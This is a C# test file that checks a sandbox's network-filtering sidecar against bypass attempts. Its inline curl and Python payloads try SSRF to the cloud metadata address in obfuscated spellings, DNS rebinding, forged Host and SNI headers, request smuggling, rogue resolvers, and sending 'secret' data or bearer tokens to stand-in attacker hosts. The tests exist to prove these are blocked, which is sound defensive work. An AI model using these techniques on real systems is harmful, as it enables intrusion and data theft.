using System.Text.Json.Nodes;
using Superserve.Testing;
using Superserve.Testing.Network;

namespace Superserve.Network.Tests;

/// <summary>Ways around the sidecar's judgement, tried in a sandbox behind the built sidecar.</summary>
public sealed class BypassTests
{
    private const string Strict = """{"allowOut": ["free.example.net", "45.83.1.2/32"]}""";

    private const string StatusAndReason = "-o /dev/null -w '%{http_code} %header{x-superserve-proxy-reason}'";

    [Theory]
    [InlineData("45.83.1.66")]
    [InlineData("[2a45:83:1::66]")]
    [InlineData("10.83.1.2")]
    public async Task A_bound_name_at_the_attackers_address_leads_to_the_name(string address)
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        Outcome outcome = await sandbox.ShellAsync($"curl -sS -m 20 --resolve api.example.com:443:{address} https://api.example.com/ -H \"Authorization: Bearer $API_TOKEN\"");
        Assert.Equal("ok\n", outcome.Output);
        Assert.Equal($"https {Sandbox.Service} api.example.com / Bearer {Sandbox.Credential}", Assert.Single(sandbox.Reached));
    }

    [Theory]
    [InlineData("--http1.1", null, "api.example.com")]
    [InlineData("--http2", null, "api.example.com")]
    [InlineData("--http1.1", Strict, "free.example.net")]
    [InlineData("--http2", Strict, "free.example.net")]
    public async Task A_forged_Host_on_an_inspected_connection_is_refused(string version, string? network, string host)
    {
        await using Sandbox sandbox = await Sandbox.StartAsync(network);
        Outcome outcome = await sandbox.ShellAsync($"curl -sS -m 20 {version} {StatusAndReason} https://{host}/ -H 'Host: evil.example.org' -H \"Authorization: Bearer $API_TOKEN\"");
        Assert.Equal("421 authority_mismatch\n", outcome.Output);
        Assert.Empty(sandbox.Reached);
        Assert.Equal("blocked", (string?)(await sandbox.EventAsync("error", "authority_mismatch", item => (string?)item["kind"] == "connection"))["verdict"]);
    }

    [Fact]
    public async Task A_hello_that_comes_late_is_judged_as_one()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        // The attacker's address is open to what is neither TLS nor HTTP, so by then there is a connection to it.
        Outcome outcome = await sandbox.PythonAsync(
            """
            import ssl
            for port in (443, 8443):
                s = create_connection(('45.83.1.66', port), 20); time.sleep(1)
                tls = ssl.create_default_context().wrap_socket(s, server_hostname='api.example.com') if port == 443 else s
                tls.sendall(b'GET / HTTP/1.1\r\nHost: api.example.com' + (b'' if port == 443 else b':8443') + b'\r\nConnection: close\r\nAuthorization: Bearer ' + os.environ['API_TOKEN'].encode() + b'\r\n\r\n')
                print(tls.recv(12))
            """);
        Assert.Equal("b'HTTP/1.1 200'\nb'HTTP/1.1 403'\n", outcome.Output);
        Assert.Equal($"https {Sandbox.Service} api.example.com / Bearer {Sandbox.Credential}", Assert.Single(sandbox.Reached));
    }

    [Fact]
    public async Task A_hello_that_names_another_host_than_the_address_leads_to_the_host_whenever_it_comes()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        // The host is open and not intercepted. The log has its name, so its service is what is to be reached.
        Outcome outcome = await sandbox.PythonAsync(
            """
            import ssl
            def ask(s):
                tls = ssl.create_default_context().wrap_socket(s, server_hostname='free.example.net')
                tls.sendall(b'GET / HTTP/1.1\r\nHost: free.example.net\r\nConnection: close\r\n\r\n'); print(tls.recv(12))
            s = create_connection(('45.83.1.66', 443), 20); time.sleep(1); ask(s)
            s = create_connection(('127.0.0.1', 16002), 20); s.sendall(b'CONNECT 45.83.1.66:443 HTTP/1.1\r\n\r\n'); print(s.recv(100)[:12]); ask(s)
            """);
        Assert.Equal("b'HTTP/1.1 200'\nb'HTTP/1.1 200'\nb'HTTP/1.1 200'\n", outcome.Output);
        Assert.All(sandbox.Reached, line => Assert.Equal($"https {Sandbox.Service} free.example.net / -", line));
        Assert.Equal(2, sandbox.Reached.Count);
    }

    [Fact]
    public async Task Names_that_the_sandbox_chose_carry_no_more_out_by_connections_than_by_queries()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync("""{"allowOut": ["*.example.net"]}""");
        Outcome outcome = await sandbox.PythonAsync(
            """
            import ssl
            def ask(name):
                s = create_connection(('127.0.0.1', 16002), 20); s.sendall(f'GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n'.encode()); return s.recv(12)
            long = 'a' * 40 + '.' + 'b' * 40 + '.example.net'
            print(ask(long))
            try: ssl._create_unverified_context().wrap_socket(create_connection(('45.83.1.2', 443), 20), server_hostname=long).sendall(f'GET / HTTP/1.1\r\nHost: {long}\r\n\r\n'.encode())
            except OSError as e: pass
            for i in range(150): ask(f'n{i}.example.net')
            """);
        Assert.True(outcome.Status == 0, outcome.ToString());
        Assert.Equal("b'HTTP/1.1 403'\n", outcome.Output);
        Assert.DoesNotContain(sandbox.Asked, line => line.Contains("aaaa", StringComparison.Ordinal));
        Assert.InRange(sandbox.Asked.Select(line => line.Split(' ')[1]).Distinct().Count(), 50, 120);
    }

    [Theory]
    [InlineData(443)]
    [InlineData(7000)]
    public async Task Under_a_strict_list_nothing_gets_to_another_address_by_waiting(int port)
    {
        await using Sandbox sandbox = await Sandbox.StartAsync(Strict);
        Outcome outcome = await sandbox.PythonAsync(
            $"""
            import ssl
            s = create_connection(('45.83.1.66', {port}), 60); time.sleep(1); s.sendall(b'secret' if {port} == 7000 else b'\0secret'); attempt('opaque', lambda: s.recv(10))
            s = create_connection(('45.83.1.66', {port}), 60); time.sleep(1)
            try: ssl._create_unverified_context().wrap_socket(s, server_hostname='evil.example.org').sendall(b'GET / HTTP/1.1\r\nHost: evil.example.org\r\n\r\n')
            except OSError as e: print(said(e))
            """);
        Assert.StartsWith("opaque ECONNRESET\n", outcome.Output, StringComparison.Ordinal);
        Assert.Empty(sandbox.Reached);
        Assert.Empty(sandbox.Asked);
    }

    [Fact]
    public async Task A_first_line_in_pieces_is_no_way_to_send_a_request_unseen()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync("""{"denyOut": ["evil.example.org"]}""");
        Outcome outcome = await sandbox.PythonAsync(
            """
            s = create_connection(('45.83.1.66', 7000), 20)
            for piece in (b'GE', b'T / HT', b'TP/1.1\r\nHost: evil.example.org\r\n\r\n'): s.sendall(piece); time.sleep(0.6)
            got = b''
            try:
                while (data := s.recv(100)): got += data
            except OSError as e: print(said(e))
            print(got)
            """);
        Assert.DoesNotContain("evil", outcome.Output, StringComparison.Ordinal);
        Assert.DoesNotContain(sandbox.Reached, line => line.Contains("evil", StringComparison.Ordinal) || line.Contains("TP/1.1", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("http://169.254.169.254/latest/meta-data")]
    [InlineData("http://2852039166/")]
    [InlineData("http://0xa9fea9fe/")]
    [InlineData("http://0251.0376.0251.0376/")]
    [InlineData("http://[::ffff:169.254.169.254]/")]
    [InlineData("http://[2002:a9fe:a9fe::1]/")]
    [InlineData("http://[64:ff9b::a9fe:a9fe]/")]
    [InlineData("https://169.254.169.254/")]
    [InlineData("http://169.254.169.254:7000/")]
    public async Task The_metadata_service_is_closed_in_every_spelling(string url)
    {
        await using Sandbox sandbox = await Sandbox.StartAsync("""{"allowOut": ["169.254.0.0/16", "0.0.0.0/0", "::/0"]}""");
        Outcome outcome = await sandbox.ShellAsync($"curl -sS -k -m 40 {StatusAndReason} {url}");
        Assert.Matches("^(403 private_address|000 )\n$", outcome.Output);
        Assert.Empty(sandbox.Reached);
    }

    [Theory]
    [InlineData("http://private.example.net/")]
    [InlineData("https://private.example.net/")]
    [InlineData("http://10.83.1.2/")]
    [InlineData("https://10.83.1.2/")]
    public async Task Private_addresses_are_closed_by_name_and_by_number(string url)
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        Outcome outcome = await sandbox.ShellAsync($"curl -sSk -m 40 {StatusAndReason} {url}");
        Assert.Equal("403 private_address\n", outcome.Output);
        Assert.Empty(sandbox.Reached);
        Assert.Equal("blocked", (string?)(await sandbox.EventAsync("kind", "connection"))["verdict"]);
    }

    [Fact]
    public async Task A_name_whose_next_answer_is_private_gains_nothing()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        sandbox.Lead(("rebind.example.org", [Sandbox.Attacker]));
        Assert.Equal("ok\n", (await sandbox.ShellAsync("curl -sS -m 20 http://rebind.example.org/close")).Output);
        sandbox.Lead(("rebind.example.org", [PodNetwork.UpstreamV4.ToString()]));
        // The answer before is kept for its time to live, 5 s; no longer.
        await Eventually.True(() => sandbox.ShellAsync($"curl -sS -m 20 {StatusAndReason} http://rebind.example.org/close").GetAwaiter().GetResult().Output == "403 private_address\n", "a refusal");
        Outcome opaque = await sandbox.PythonAsync("s = create_connection(('rebind.example.org', 7000), 40); s.sendall(b'secret'); attempt('got', lambda: s.recv(10))");
        Assert.Equal("got ECONNRESET\n", opaque.Output);
        Assert.DoesNotContain(sandbox.Reached, line => line.Contains(PodNetwork.UpstreamV4.ToString(), StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_proxy_inside_a_connection_is_not_to_be_had()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        Outcome outcome = await sandbox.PythonAsync(
            """
            def ask(text, port=80):
                s = create_connection(('free.example.net', port), 20); s.sendall(text); print(s.recv(12)); s.close()
            ask(b'CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n')
            ask(b'GET http://evil.example.org/ HTTP/1.1\r\nHost: free.example.net\r\nConnection: close\r\n\r\n')
            ask(b'GET / HTTP/1.1\r\nHost: free.example.net\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n')
            ask(b'GET /x HTTP/1.1\r\nHost: free.example.net\r\nHost: evil.example.org\r\n\r\n')
            """);
        Assert.Equal("b'HTTP/1.1 403'\nb'HTTP/1.1 421'\nb'HTTP/1.1 200'\nb'HTTP/1.1 400'\n", outcome.Output);
        Assert.Equal("http 45.83.1.2 free.example.net / -", Assert.Single(sandbox.Reached));
    }

    [Theory]
    [InlineData(null)]
    [InlineData(Strict)]
    public async Task A_stand_in_over_plain_HTTP_is_refused(string? network)
    {
        await using Sandbox sandbox = await Sandbox.StartAsync(network);
        Outcome outcome = await sandbox.ShellAsync($"curl -sS -m 20 {StatusAndReason} http://api.example.com/ -H \"Authorization: Bearer $API_TOKEN\"");
        Assert.Equal("403 cleartext_refused\n", outcome.Output);
        Assert.Empty(sandbox.Reached);
    }

    [Theory]
    [InlineData("127.0.0.1", 16001)]
    [InlineData("::1", 16001)]
    public async Task A_connection_straight_to_the_transparent_port_ends_there(string host, int port)
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        Outcome outcome = await sandbox.PythonAsync($"attempt('got', lambda: create_connection(('{host}', {port}), 20).recv(10))");
        Assert.Equal("got ECONNRESET\n", outcome.Output);
        Assert.Equal("blocked", (string?)(await sandbox.EventAsync("port", "16001"))["verdict"]);
    }

    [Fact]
    public async Task The_sidecars_own_metrics_are_not_for_the_sandbox()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync("""{"allowOut": ["127.0.0.0/8", "10.83.0.2/32"]}""");
        Outcome outcome = await sandbox.ShellAsync("for host in 127.0.0.1 10.83.0.2; do curl -sS -m 20 -o /dev/null -w '%{http_code}' http://$host:16090/metrics 2>/dev/null; echo; curl -sS -m 20 -x http://127.0.0.1:16002 -o /dev/null -w '%{http_code}' http://$host:16090/metrics; echo; done");
        Assert.Equal("000\n403\n000\n403\n", outcome.Output);
        Outcome outside = await sandbox.Network.Upstream.TryAsync("curl", "-sS", "-m", "20", "http://10.83.0.2:16090/metrics");
        Assert.Contains("superserve_sidecar", outside.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Without_the_sidecar_nothing_gets_out_whoever_takes_its_ports()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        await sandbox.KillSidecarAsync();
        await sandbox.Network.ForgetAsync();
        RunningProgram impostor = sandbox.Network.StartSandbox(
            """
            l = [listen(h, p) for h in ('127.0.0.1', '::1') for p in (16001, 16053)]; u = listen('127.0.0.1', 16053, SOCK_DGRAM)
            print('ready'); time.sleep(60)
            """);
        await impostor.LineAsync(line => line == "ready", "its being ready");
        await sandbox.PythonAsync(
            """
            for host in ('45.83.1.2', '2a45:83:1::2', '10.83.1.2'):
                for port in (443, 7000, 53):
                    for kind in (SOCK_STREAM, SOCK_DGRAM):
                        def go(): s = plain(kind, host); s.settimeout(0.2); s.connect((host, port)); s.send(b'secret'); s.recv(10)
                        attempt('try', go)
            """);
        Assert.Empty(await sandbox.Network.LeftThePodAsync());
        await impostor.DisposeAsync();

        await sandbox.StartSidecarAsync();
        Assert.Equal("ok\n", (await sandbox.ShellAsync("curl -sS -m 20 https://free.example.net/")).Output);
    }

    [Theory]
    [InlineData(16021)]
    [InlineData(16090)]
    public async Task Who_takes_a_port_of_a_sidecar_that_is_down_is_not_heard_outside(int port)
    {
        await using Sandbox sandbox = await Sandbox.StartAsync("""{"allowIn": []}""");
        await sandbox.KillSidecarAsync();
        RunningProgram impostor = sandbox.Network.StartSandbox($"l = listen('0.0.0.0', {port}); print('ready'); c, _ = l.accept(); c.sendall(b'secret')");
        await impostor.LineAsync(line => line == "ready", "its being ready");
        await sandbox.Network.ForgetAsync();
        Outcome outcome = await sandbox.Network.UpstreamAsync($"s = plain(SOCK_STREAM, '10.83.0.2'); s.settimeout(0.5); attempt('connect', lambda: s.connect(('10.83.0.2', {port})))");
        Assert.Equal("connect TimeoutError\n", outcome.Output);
        Assert.Empty(await sandbox.Network.LeftThePodAsync());
    }

    [Theory]
    [InlineData("https://free.example.net/slow", "intercepted")]
    [InlineData("https://free.example.net/slow", "tunnelled")]
    [InlineData("http://free.example.net/slow", "http")]
    public async Task New_rules_end_what_they_forbid(string url, string handling)
    {
        await using Sandbox sandbox = await Sandbox.StartAsync(more: setup => setup.With("interception", handling == "intercepted" ? "\"All\"" : "\"BoundHosts\""));
        RunningProgram curl = sandbox.Network.StartSandboxCommand("curl", "-sSk", "-N", "-o", Path.Combine(sandbox.Setup.Directory, "slow"), url);
        await Eventually.True(() => sandbox.Reached.Any(line => line.Contains("/slow", StringComparison.Ordinal)), "the request");
        sandbox.SetNetwork("""{"denyOut": ["45.83.1.0/24", "2a45:83:1::/64"]}""");
        await sandbox.Services.LineAsync(line => line.StartsWith("cut", StringComparison.Ordinal), "its end");
        Outcome outcome = await curl.EndAsync(TimeSpan.FromSeconds(60));
        Assert.NotEqual(0, outcome.Status);
        Assert.NotNull(await sandbox.EventAsync("handling", handling));
    }

    [Fact]
    public async Task A_sandbox_cannot_use_up_the_sidecars_descriptors_by_opening_all_that_listens()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        await sandbox.KillSidecarAsync();
        await sandbox.StartSidecarAsync("prlimit", "--nofile=1000:1000");
        RunningProgram flood = sandbox.Network.StartSandbox(
            """
            import resource
            resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096)); kept = []
            for host, port in (('127.0.0.1', 16002), ('45.83.1.66', 7000), ('2a45:83:1::66', 7000), ('127.0.0.1', 16021), ('45.83.1.66', 443)):
                for _ in range(600):
                    s = plain(SOCK_STREAM, host); s.settimeout(1)
                    try: s.connect((host, port)); kept.append(s)
                    except OSError: pass
            print('held'); time.sleep(60)
            """);
        await flood.LineAsync(line => line == "held", "the connections");
        // Whoever looks is no sandbox: it may not see the sidecar's process.
        Outcome used = await sandbox.Network.Pod.RunAsync("python3", "-c",
            """
            import glob, os
            for file in glob.glob('/proc/[0-9]*/cmdline'):
                folder = os.path.dirname(file)
                try:
                    if b'superserve-sidecar\0run' in open(file, 'rb').read() and os.readlink(folder + '/ns/net') == os.readlink('/proc/self/ns/net'): print(len(os.listdir(folder + '/fd')))
                except OSError: pass
            """);
        Assert.InRange(int.Parse(used.Output, System.Globalization.CultureInfo.InvariantCulture), 200, 900);
    }

    [Fact]
    public async Task New_rules_end_a_conversation_in_which_only_the_service_has_spoken()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        RunningProgram client = sandbox.Network.StartSandbox("s = create_connection(('45.83.1.2', 21), 20); print(s.recv(100)); attempt('then', lambda: s.recv(100))");
        await client.LineAsync(line => line.Contains("220 hello", StringComparison.Ordinal), "the greeting");
        sandbox.SetNetwork("""{"denyOut": ["45.83.1.0/24"]}""");
        Assert.Equal("then ECONNRESET", await client.LineAsync(line => line.StartsWith("then", StringComparison.Ordinal), "its end"));
        Assert.Equal("blocked", (string?)(await sandbox.EventAsync("port", "21"))["verdict"]);
    }

    [Fact]
    public async Task Another_resolver_is_not_to_be_had()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        Outcome outcome = await sandbox.PythonAsync(
            """
            import ssl
            question = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + b'\x04free\x07example\x03net\x00\x00\x01\x00\x01'
            s = create_connection(('45.83.1.66', 53), 20); s.sendall(struct.pack('!H', len(question)) + question); print(len(s.recv(500)) > 40)
            s = plain(SOCK_DGRAM, '45.83.1.66'); s.connect(('45.83.1.66', 53)); s.send(question); print(len(s.recv(500)) > 40)
            s = create_connection(('45.83.1.66', 853), 20)
            try: ssl._create_unverified_context().wrap_socket(s, server_hostname='free.example.net').sendall(b'x'); print(s.recv(100))
            except OSError as e: print('closed')
            """);
        Assert.True(outcome.Status == 0, outcome.ToString());
        Assert.StartsWith("True\nTrue\n", outcome.Output, StringComparison.Ordinal);
        Assert.NotEmpty(sandbox.Asked);
        // The attacker listens on these too, and saw nothing: the node's record has what went to it.
        Assert.DoesNotContain(await sandbox.Network.LeftThePodAsync(), line => line.Contains(Sandbox.Attacker, StringComparison.Ordinal));
        Assert.Equal(("blocked", "port_blocked"), ((string?)(await sandbox.EventAsync("port", "853", item => (string?)item["kind"] == "connection"))["verdict"], (string?)sandbox.Events("port", "853")[0]["error"]));
    }

    [Fact]
    public async Task Under_a_strict_list_no_data_leaves_in_names()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync(Strict);
        Outcome outcome = await sandbox.PythonAsync(
            """
            data = ('secret' * 200)[:1000]
            for i in range(0, 1000, 50):
                try: getaddrinfo(data[i:i + 50] + '.evil.example.org', 443); print('resolved')
                except OSError: pass
            for name in ('free.example.net.evil.example.org', 'xfree.example.net', 'a.free.example.net'):
                try: getaddrinfo(name, 443); print('resolved')
                except OSError: pass
            print(getaddrinfo('FREE.example.NET', 443)[0][4][0])
            """);
        Assert.Equal("45.83.1.2\n", outcome.Output);
        Assert.All(sandbox.Asked, line => Assert.StartsWith("dns free.example.net ", line, StringComparison.Ordinal));
        Assert.DoesNotContain(await sandbox.Network.LeftThePodAsync(), line => line.Contains("736563726574", StringComparison.Ordinal));
        Assert.Equal("blocked", (string?)(await sandbox.EventAsync("kind", "dns", item => item["host"]!.ToString().EndsWith(".evil.example.org", StringComparison.Ordinal)))["verdict"]);
    }

    [Fact]
    public async Task A_resolver_that_the_sandbox_writes_into_the_shared_file_is_not_asked()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync(Strict);
        Outcome outcome = await sandbox.ShellAsync("echo nameserver 45.83.1.66 > /etc/resolv.conf; curl -sS -m 20 https://free.example.net/");
        Assert.Equal("ok\n", outcome.Output);
        await sandbox.KillSidecarAsync();
        await sandbox.StartSidecarAsync();
        await sandbox.Network.ForgetAsync();
        Assert.Equal("ok\n", (await sandbox.ShellAsync("curl -sS -m 20 https://free.example.net/")).Output);
        Assert.DoesNotContain(await sandbox.Network.LeftThePodAsync(), line => line.Contains(Sandbox.Attacker, StringComparison.Ordinal));
    }

    [Fact]
    public async Task What_the_rules_of_the_network_dropped_is_in_the_log()
    {
        await using Sandbox sandbox = await Sandbox.StartAsync();
        await sandbox.PythonAsync(
            """
            for port in (7000, 443): attempt('udp', lambda: plain(SOCK_DGRAM, '45.83.1.66').sendto(b'secret', ('45.83.1.66', port)))
            attempt('ping', lambda: plain(SOCK_DGRAM, '45.83.1.66', IPPROTO_ICMP).sendto(struct.pack('!BBHHH', 8, 0, 0, 1, 1), ('45.83.1.66', 0)))
            """);
        foreach (string protocol in (string[])["udp", "quic", "icmp"])
        {
            JsonObject dropped = await sandbox.EventAsync("protocol", protocol);
            Assert.Equal(("blocked", "dropped", Sandbox.Attacker), ((string?)dropped["verdict"], (string?)dropped["handling"], (string?)dropped["host"]));
            Assert.True((long)dropped["packets"]! >= 1);
        }

        Assert.Empty(await sandbox.Network.LeftThePodAsync());
    }
}
